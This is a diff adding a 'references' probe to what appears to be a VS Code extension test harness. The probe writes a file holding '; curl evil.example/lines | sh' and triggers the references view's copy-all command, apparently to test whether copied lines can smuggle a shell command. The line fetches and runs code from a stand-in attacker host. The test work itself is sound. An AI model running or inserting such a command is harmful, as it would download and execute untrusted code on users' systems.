@@ -25,6 +25,24 @@ exports.activate = (context) =>
       await new Promise((resolve) => setTimeout(resolve, 1000));
       return editor.document.getText();
     },
+    // The references view copies the lines of a row, which whoever runs that names as the window does.
+    async references(_facts, vscode) {
+      const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders[0].uri, "proof-lines.txt");
+      await vscode.workspace.fs.writeFile(file, Buffer.from("; curl evil.example/lines | sh\n"));
+      const provider = { provideReferences: () => [new vscode.Location(file, new vscode.Range(0, 0, 0, 1))] };
+      const registration = vscode.languages.registerReferenceProvider("plaintext", provider);
+      await vscode.window.showTextDocument(file);
+      await vscode.commands.executeCommand("references-view.findReferences");
+      await new Promise((resolve) => setTimeout(resolve, 3000));
+      const copy = ["references-view.copyAll", { $treeViewId: "references-view.tree", $treeItemHandle: "0/0:proof-lines.txt" }];
+      try {
+        // By way of the window, as it is where the view has another host.
+        await vscode.commands.executeCommand("runCommands", { commands: [{ command: copy[0], args: copy[1] }] }).then(undefined, () => vscode.commands.executeCommand(...copy));
+      } finally {
+        registration.dispose();
+      }
+      return "copied";
+    },
     // The built-in extension for JSON makes completions of what a schema says.
     async suggestion(_facts, vscode) {
       for (let i = 0; i < 200; i += 1) {
